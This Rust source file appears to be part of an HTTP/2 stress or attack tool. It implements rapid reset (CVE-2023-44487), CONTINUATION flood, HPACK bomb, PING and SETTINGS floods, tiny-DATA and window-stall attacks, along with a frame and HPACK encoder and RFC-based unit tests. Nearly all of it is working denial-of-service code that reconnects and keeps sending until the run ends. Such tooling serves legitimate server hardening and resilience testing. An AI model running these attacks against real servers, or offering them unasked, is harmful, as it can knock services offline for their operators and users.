//! The HTTP/2 attacks, written frame by frame (RFC 9113) with a small
//! encoder ([`Frames`]) and the few HPACK representations they need
//! (RFC 7541 section 6: indexed; literal with incremental indexing; literal
//! without indexing, new or indexed name; no Huffman coding):
//!
//! - **rapid reset** (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL) at
//!   once, stream after stream;
//! - **CONTINUATION flood**: a HEADERS frame without END_HEADERS followed by
//!   CONTINUATION frames full of new literal fields, never ending;
//! - **HPACK bomb**: one 4000-byte field entered in the dynamic table, then
//!   header blocks of thousands of one-byte references to it (each block
//!   decodes to tens of MB);
//! - **PING / SETTINGS floods**: frames whose ACKs are never read;
//! - **tiny DATA**: a POST body sent as empty DATA frames;
//! - **window stall**: SETTINGS_INITIAL_WINDOW_SIZE = 0, then streams for a
//!   large response that are never given window.
//!
//! Each connection slot reconnects when the server closes, until the run
//! is over. A reader task counts what comes back (HEADERS, RST_STREAM,
//! GOAWAY) and acknowledges the server's SETTINGS, except in the PING and
//! SETTINGS floods, which never read: that is the attack.

use std::sync::atomic::Ordering;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::sync::mpsc;

use super::{Attack, Pacer, Run};

/// The HTTP/2 client connection preface (RFC 9113 section 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

// Frame types (RFC 9113 section 6).
const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
// Flags.
const END_STREAM: u8 = 0x1;
const ACK: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
/// RST_STREAM error code CANCEL.
const CANCEL: u32 = 0x8;
/// SETTINGS_INITIAL_WINDOW_SIZE.
const INITIAL_WINDOW_SIZE: u16 = 0x4;
/// SETTINGS_MAX_CONCURRENT_STREAMS.
const MAX_CONCURRENT_STREAMS: u16 = 0x3;
/// The largest frame payload every peer accepts (SETTINGS_MAX_FRAME_SIZE's
/// initial value).
const MAX_FRAME: usize = 16_384;
/// The highest stream id a client may use.
const LAST_STREAM_ID: u32 = (1 << 31) - 1;
/// Streams a window-stall connection opens (servers refuse those beyond
/// their SETTINGS_MAX_CONCURRENT_STREAMS; the refusals are counted).
const STALLED_STREAMS: u32 = 100;
/// Empty DATA frames sent on one tiny-DATA stream before it is ended and
/// the next one opened.
const TINY_FRAMES_PER_STREAM: u64 = 10_000;
/// The HPACK bomb's field: name and value sizes (an entry costs their sum
/// plus 32, and must fit the default 4096-byte dynamic table).
const BOMB_VALUE: usize = 4000;

/// An outgoing byte buffer of HTTP/2 frames.
#[derive(Default)]
pub struct Frames(pub Vec<u8>);

impl Frames {
    /// Appends one frame.
    pub fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        let len = payload.len() as u32;
        self.0.extend_from_slice(&len.to_be_bytes()[1..]);
        self.0.push(kind);
        self.0.push(flags);
        self.0
            .extend_from_slice(&(stream & LAST_STREAM_ID).to_be_bytes());
        self.0.extend_from_slice(payload);
    }

    pub fn settings(&mut self, params: &[(u16, u32)]) {
        let mut p = Vec::with_capacity(params.len() * 6);
        for (id, v) in params {
            p.extend_from_slice(&id.to_be_bytes());
            p.extend_from_slice(&v.to_be_bytes());
        }
        self.frame(SETTINGS, 0, 0, &p);
    }

    pub fn rst(&mut self, stream: u32, code: u32) {
        self.frame(RST_STREAM, 0, stream, &code.to_be_bytes());
    }
}

/// HPACK integer with an `n`-bit prefix (RFC 7541 section 5.1); `first`
/// holds the representation's pattern bits above the prefix.
pub fn hpack_int(out: &mut Vec<u8>, first: u8, n: u8, mut v: usize) {
    let max = (1usize << n) - 1;
    if v < max {
        out.push(first | v as u8);
        return;
    }
    out.push(first | max as u8);
    v -= max;
    while v >= 128 {
        out.push((v % 128) as u8 | 0x80);
        v /= 128;
    }
    out.push(v as u8);
}

/// A string literal, not Huffman coded (section 5.2).
fn hpack_str(out: &mut Vec<u8>, s: &[u8]) {
    hpack_int(out, 0x00, 7, s.len());
    out.extend_from_slice(s);
}

/// Indexed header field (section 6.1).
pub fn indexed(out: &mut Vec<u8>, index: usize) {
    hpack_int(out, 0x80, 7, index);
}

/// Literal without indexing, name from table entry `name_index`
/// (section 6.2.2).
pub fn literal_indexed_name(out: &mut Vec<u8>, name_index: usize, value: &[u8]) {
    hpack_int(out, 0x00, 4, name_index);
    hpack_str(out, value);
}

/// Literal without indexing, new name (section 6.2.2).
pub fn literal(out: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    out.push(0x00);
    hpack_str(out, name);
    hpack_str(out, value);
}

/// Literal with incremental indexing, new name (section 6.2.1): the field
/// enters the dynamic table at index 62.
pub fn literal_indexing(out: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    out.push(0x40);
    hpack_str(out, name);
    hpack_str(out, value);
}

/// A request's pseudo-header fields from the static table (section
/// Appendix A: 2 = :method GET, 3 = :method POST, 6/7 = :scheme http/https,
/// 1 = :authority, 4 = :path).
pub fn request_head(out: &mut Vec<u8>, post: bool, tls: bool, host: &str, path: &str) {
    indexed(out, if post { 3 } else { 2 });
    indexed(out, if tls { 7 } else { 6 });
    literal_indexed_name(out, 1, host.as_bytes());
    literal_indexed_name(out, 4, path.as_bytes());
}

/// Runs one connection slot of an HTTP/2 attack until the run is over.
pub async fn attack(r: &Run) {
    let mut pacer = Pacer::new(r);
    while !r.over() {
        let Some(s) = r.connect_stream(true).await else {
            if !r.pause(std::time::Duration::from_millis(100)).await {
                return;
            }
            continue;
        };
        let (rd, mut wr) = tokio::io::split(s);
        let mut start = Frames::default();
        start.0.extend_from_slice(PREFACE);
        match r.opts.attack {
            Attack::WindowStall => start.settings(&[(INITIAL_WINDOW_SIZE, 0)]),
            _ => start.settings(&[]),
        }
        let (acks, mut to_ack) = mpsc::unbounded_channel::<()>();
        let reader = match r.opts.attack {
            // The floods of frames the server must acknowledge never read:
            // the acknowledgements pile up on the server's side.
            Attack::PingFlood | Attack::SettingsFlood => {
                tokio::spawn(hold(rd, r.deadline)).abort_handle()
            }
            _ => {
                tokio::spawn(read_frames(rd, std::sync::Arc::clone(&r.tally), acks)).abort_handle()
            }
        };
        let mut conn = Conn {
            wr: &mut wr,
            next_stream: 1,
            out: start,
        };
        if conn.flush(r).await {
            let ended = match r.opts.attack {
                Attack::RapidReset => rapid_reset(r, &mut conn, &mut pacer, &mut to_ack).await,
                Attack::Continuation => continuation(r, &mut conn, &mut pacer, &mut to_ack).await,
                Attack::HpackBomb => hpack_bomb(r, &mut conn, &mut pacer, &mut to_ack).await,
                Attack::PingFlood | Attack::SettingsFlood => {
                    ack_flood(r, &mut conn, &mut pacer).await
                }
                Attack::TinyData => tiny_data(r, &mut conn, &mut pacer, &mut to_ack).await,
                _ => window_stall(r, &mut conn, &mut to_ack).await,
            };
            if ended {
                r.closed();
            }
        } else {
            r.closed();
        }
        reader.abort();
    }
}

/// One connection's writing side.
struct Conn<'a, W> {
    wr: &'a mut W,
    next_stream: u32,
    out: Frames,
}

impl<W: AsyncWrite + Unpin> Conn<'_, W> {
    /// Writes the buffered frames; false when the server closed (or the
    /// run ended while the write was blocked).
    async fn flush(&mut self, r: &Run) -> bool {
        let buf = std::mem::take(&mut self.out.0);
        match tokio::time::timeout_at(r.deadline, self.wr.write_all(&buf)).await {
            Ok(Ok(())) => {
                r.sent(buf.len());
                true
            }
            _ => false,
        }
    }

    /// The next client stream id, or `None` when they are used up.
    fn stream(&mut self) -> Option<u32> {
        let id = self.next_stream;
        if id > LAST_STREAM_ID - 2 {
            return None;
        }
        self.next_stream += 2;
        Some(id)
    }

    /// SETTINGS ACKs the reader asked for.
    fn acks(&mut self, to_ack: &mut mpsc::UnboundedReceiver<()>) {
        while to_ack.try_recv().is_ok() {
            self.out.frame(SETTINGS, ACK, 0, &[]);
        }
    }
}

// Each attack below returns true when the server ended the connection,
// false when the run (time or budget) ended it.

async fn rapid_reset<W: AsyncWrite + Unpin>(
    r: &Run,
    c: &mut Conn<'_, W>,
    pacer: &mut Pacer,
    to_ack: &mut mpsc::UnboundedReceiver<()>,
) -> bool {
    let mut head = Vec::new();
    request_head(&mut head, false, r.opts.tls, &r.opts.host, "/");
    loop {
        let Some(n) = pacer.next(r, u64::MAX).await else {
            return false;
        };
        c.acks(to_ack);
        for _ in 0..n {
            let Some(id) = c.stream() else { return true };
            c.out.frame(HEADERS, END_HEADERS | END_STREAM, id, &head);
            c.out.rst(id, CANCEL);
        }
        if !c.flush(r).await {
            return true;
        }
    }
}

async fn continuation<W: AsyncWrite + Unpin>(
    r: &Run,
    c: &mut Conn<'_, W>,
    pacer: &mut Pacer,
    to_ack: &mut mpsc::UnboundedReceiver<()>,
) -> bool {
    let Some(id) = c.stream() else { return true };
    let mut head = Vec::new();
    request_head(&mut head, false, r.opts.tls, &r.opts.host, "/");
    c.out.frame(HEADERS, 0, id, &head);
    // One CONTINUATION payload: new literal fields up to the frame size.
    let mut block = Vec::with_capacity(MAX_FRAME);
    let mut k = 0u32;
    while block.len() + 64 < MAX_FRAME {
        literal(&mut block, format!("x-c{k}").as_bytes(), &[b'v'; 40]);
        k += 1;
    }
    loop {
        let Some(n) = pacer.next(r, 16).await else {
            return false;
        };
        c.acks(to_ack);
        for _ in 0..n {
            c.out.frame(CONTINUATION, 0, id, &block);
        }
        if !c.flush(r).await {
            return true;
        }
    }
}

async fn hpack_bomb<W: AsyncWrite + Unpin>(
    r: &Run,
    c: &mut Conn<'_, W>,
    pacer: &mut Pacer,
    to_ack: &mut mpsc::UnboundedReceiver<()>,
) -> bool {
    // The first request enters the field in the dynamic table (index 62).
    let Some(id) = c.stream() else { return true };
    let mut first = Vec::new();
    request_head(&mut first, false, r.opts.tls, &r.opts.host, "/");
    literal_indexing(&mut first, b"x-bomb", &[b'b'; BOMB_VALUE]);
    c.out
        .frame(HEADERS, END_HEADERS | END_STREAM, id, &first[..]);
    // Every later block: the pseudo-headers, then one-byte references to
    // it up to the frame size.
    let mut bomb = Vec::with_capacity(MAX_FRAME);
    request_head(&mut bomb, false, r.opts.tls, &r.opts.host, "/");
    while bomb.len() < MAX_FRAME {
        indexed(&mut bomb, 62);
    }
    loop {
        let Some(n) = pacer.next(r, 16).await else {
            return false;
        };
        c.acks(to_ack);
        for _ in 0..n {
            let Some(id) = c.stream() else { return true };
            c.out.frame(HEADERS, END_HEADERS | END_STREAM, id, &bomb);
        }
        if !c.flush(r).await {
            return true;
        }
    }
}

async fn ack_flood<W: AsyncWrite + Unpin>(r: &Run, c: &mut Conn<'_, W>, pacer: &mut Pacer) -> bool {
    let mut k = 0u64;
    loop {
        let Some(n) = pacer.next(r, u64::MAX).await else {
            return false;
        };
        for _ in 0..n {
            k += 1;
            if r.opts.attack == Attack::PingFlood {
                c.out.frame(PING, 0, 0, &k.to_be_bytes());
            } else {
                c.out
                    .settings(&[(MAX_CONCURRENT_STREAMS, 100 + (k % 100) as u32)]);
            }
        }
        if !c.flush(r).await {
            return true;
        }
    }
}

async fn tiny_data<W: AsyncWrite + Unpin>(
    r: &Run,
    c: &mut Conn<'_, W>,
    pacer: &mut Pacer,
    to_ack: &mut mpsc::UnboundedReceiver<()>,
) -> bool {
    let mut head = Vec::new();
    request_head(&mut head, true, r.opts.tls, &r.opts.host, &r.opts.post_path);
    let mut stream = None;
    let mut sent = 0u64;
    loop {
        let Some(n) = pacer.next(r, u64::MAX).await else {
            return false;
        };
        c.acks(to_ack);
        for _ in 0..n {
            let id = match stream {
                Some(id) => id,
                None => {
                    let Some(id) = c.stream() else { return true };
                    c.out.frame(HEADERS, END_HEADERS, id, &head);
                    stream = Some(id);
                    id
                }
            };
            sent += 1;
            if sent % TINY_FRAMES_PER_STREAM == 0 {
                c.out.frame(DATA, END_STREAM, id, &[]);
                stream = None;
            } else {
                c.out.frame(DATA, 0, id, &[]);
            }
        }
        if !c.flush(r).await {
            return true;
        }
    }
}

async fn window_stall<W: AsyncWrite + Unpin>(
    r: &Run,
    c: &mut Conn<'_, W>,
    to_ack: &mut mpsc::UnboundedReceiver<()>,
) -> bool {
    let mut head = Vec::new();
    request_head(
        &mut head,
        false,
        r.opts.tls,
        &r.opts.host,
        &r.opts.large_path,
    );
    let n = r.take(STALLED_STREAMS as u64);
    if n == 0 {
        return false;
    }
    c.acks(to_ack);
    for _ in 0..n {
        let Some(id) = c.stream() else { return true };
        c.out.frame(HEADERS, END_HEADERS | END_STREAM, id, &head);
    }
    if !c.flush(r).await {
        return true;
    }
    // Then only the server's SETTINGS are acknowledged (a server may end a
    // connection whose SETTINGS go unacknowledged); no window is given.
    loop {
        tokio::select! {
            got = to_ack.recv() => {
                if got.is_none() {
                    // The reader saw the connection end.
                    return true;
                }
                c.out.frame(SETTINGS, ACK, 0, &[]);
                if !c.flush(r).await {
                    return true;
                }
            }
            _ = tokio::time::sleep_until(r.deadline) => return false,
        }
    }
}

/// Holds a connection's reading side unread until the run ends.
async fn hold<R>(rd: R, deadline: tokio::time::Instant) {
    tokio::time::sleep_until(deadline).await;
    drop(rd);
}

/// Counters the reader task updates (shared with the run).
pub type TallyHandle = std::sync::Arc<super::Tally>;

/// Reads frames until the connection ends, counting HEADERS, RST_STREAM
/// and GOAWAY, asking the writer to acknowledge each SETTINGS (dropping
/// `acks` at the end tells the writer the connection is gone).
async fn read_frames<R: AsyncRead + Unpin>(
    mut rd: R,
    tally: TallyHandle,
    acks: mpsc::UnboundedSender<()>,
) {
    let mut head = [0u8; 9];
    let mut payload = vec![0u8; MAX_FRAME];
    loop {
        if rd.read_exact(&mut head).await.is_err() {
            return;
        }
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let (kind, flags) = (head[3], head[4]);
        if payload.len() < len {
            payload.resize(len, 0);
        }
        if rd.read_exact(&mut payload[..len]).await.is_err() {
            return;
        }
        match kind {
            HEADERS => {
                tally.h2_headers.fetch_add(1, Ordering::Relaxed);
            }
            RST_STREAM => {
                tally.h2_resets.fetch_add(1, Ordering::Relaxed);
            }
            GOAWAY if len >= 8 => {
                tally.h2_goaways.fetch_add(1, Ordering::Relaxed);
                let code = u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
                tally
                    .h2_last_goaway_code
                    .store(code as u64, Ordering::Relaxed);
            }
            SETTINGS if flags & ACK == 0 => {
                let _ = acks.send(());
            }
            _ => {}
        }
    }
}

/// The frame encoder and HPACK representations, checked against the
/// examples of RFC 7541 Appendix C.
#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn integers_match_rfc7541_c1() {
        let mut out = Vec::new();
        hpack_int(&mut out, 0, 5, 10);
        assert_eq!(out, [0x0a]);
        out.clear();
        hpack_int(&mut out, 0, 5, 1337);
        assert_eq!(out, [0x1f, 0x9a, 0x0a]);
        out.clear();
        hpack_int(&mut out, 0, 8, 42);
        assert_eq!(out, [0x2a]);
    }

    #[test]
    fn literal_with_indexing_matches_rfc7541_c2_1() {
        let mut out = Vec::new();
        literal_indexing(&mut out, b"custom-key", b"custom-header");
        let mut want = vec![0x40, 0x0a];
        want.extend_from_slice(b"custom-key");
        want.push(0x0d);
        want.extend_from_slice(b"custom-header");
        assert_eq!(out, want);
    }

    #[test]
    fn literal_without_indexing_matches_rfc7541_c2_2() {
        let mut out = Vec::new();
        literal_indexed_name(&mut out, 4, b"/sample/path");
        let mut want = vec![0x04, 0x0c];
        want.extend_from_slice(b"/sample/path");
        assert_eq!(out, want);
        out.clear();
        indexed(&mut out, 2);
        assert_eq!(out, [0x82]);
    }

    #[test]
    fn frame_header_is_nine_bytes_big_endian() {
        let mut f = Frames::default();
        f.frame(HEADERS, END_HEADERS | END_STREAM, 3, &[1, 2, 3]);
        assert_eq!(f.0, [0, 0, 3, 1, 5, 0, 0, 0, 3, 1, 2, 3]);
        let mut f = Frames::default();
        f.rst(5, CANCEL);
        assert_eq!(f.0, [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
    }

    #[test]
    fn hpack_bomb_entry_fits_the_default_table() {
        assert!(b"x-bomb".len() + BOMB_VALUE + 32 <= 4096);
    }
}
